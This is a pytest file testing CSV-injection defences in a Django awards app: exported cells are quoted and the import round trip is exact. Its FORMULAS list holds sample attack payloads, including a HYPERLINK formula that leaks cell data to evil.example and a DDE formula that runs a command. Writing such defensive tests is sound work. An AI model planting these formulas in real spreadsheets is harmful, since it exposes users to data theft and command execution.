"""Attacks through the awards spreadsheet: formulas in exported cells (CSV injection), the round trip kept exact."""

import csv
import io

import pytest
from django.urls import reverse

from awards.importer import COLUMNS, export_csv, import_csv
from newsroom.spreadsheets import neutralise_cell, restore_cell
from awards.models import Award, AwardForm, AwardRecipient, Recipient

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|x",
            "\t=1+1", "\r=1+1"]


def exported_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def award_with(text: str) -> Award:
    award = Award.objects.create(form=AwardForm.objects.get(slug="bang-khen"), issuer_title="Chủ tịch UBND tỉnh",
                                 decision_number="7/QĐ", period_start=2020, movement=text, reason=text)
    recipient = Recipient.objects.create(kind="individual", name=text.strip() or "x", unit=text.strip())
    AwardRecipient.objects.create(award=award, recipient=recipient, citation=text)
    return award


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_exported_cell_starts_a_formula(formula):
    award_with(formula)
    row = exported_rows(export_csv())[0]
    for column in ("movement", "reason", "recipient_name", "recipient_unit", "citation"):
        assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
        assert row[column].startswith("'")


def test_a_formula_typed_into_the_admin_is_exported_quoted(client, superuser):
    award_with("=1+2")
    client.force_login(superuser)
    response = client.get(reverse("admin:awards_award_export"))
    assert response.status_code == 200
    assert exported_rows(response.content)[0]["reason"] == "'=1+2"


@pytest.mark.parametrize("text", ["=1+2", "- Có thành tích xuất sắc", "+84 912 345 678", "@ban_chi_huy",
                                  "'=already quoted", "''-two quotes", "Bình thường", "'trích dẫn'", "It's fine"])
def test_export_then_import_gives_back_exactly_what_was_stored(text):
    award_with(text)
    data = export_csv()
    AwardRecipient.objects.all().delete()
    Award.objects.all().delete()
    Recipient.objects.all().delete()
    report = import_csv(data)
    assert report.ok, report.errors
    award = Award.objects.get()
    link = award.recipient_links.select_related("recipient").get()
    assert (award.movement, award.reason, link.citation, link.recipient.name, link.recipient.unit) == (
        text, text, text, text, text)


@pytest.mark.parametrize("stored, exported", [
    ("=A1", "'=A1"), ("-", "'-"), ("'=A1", "''=A1"), ("'abc", "'abc"), ("abc", "abc"), ("", ""), ("2016-2020", "2016-2020"),
])
def test_the_quote_rule(stored, exported):
    assert neutralise_cell(stored) == exported
    assert restore_cell(exported) == stored


def test_a_file_written_by_hand_keeps_an_ordinary_leading_quote():
    header = ",".join(COLUMNS)
    line = "9/QĐ,,Bằng khen,Chủ tịch UBND tỉnh,,'Vì ANTQ',2020,'=1,cá nhân,Lê Văn Tám,,"
    assert import_csv(f"{header}\n{line}\n".encode()).ok
    award = Award.objects.get()
    assert (award.movement, award.reason) == ("'Vì ANTQ'", "=1")
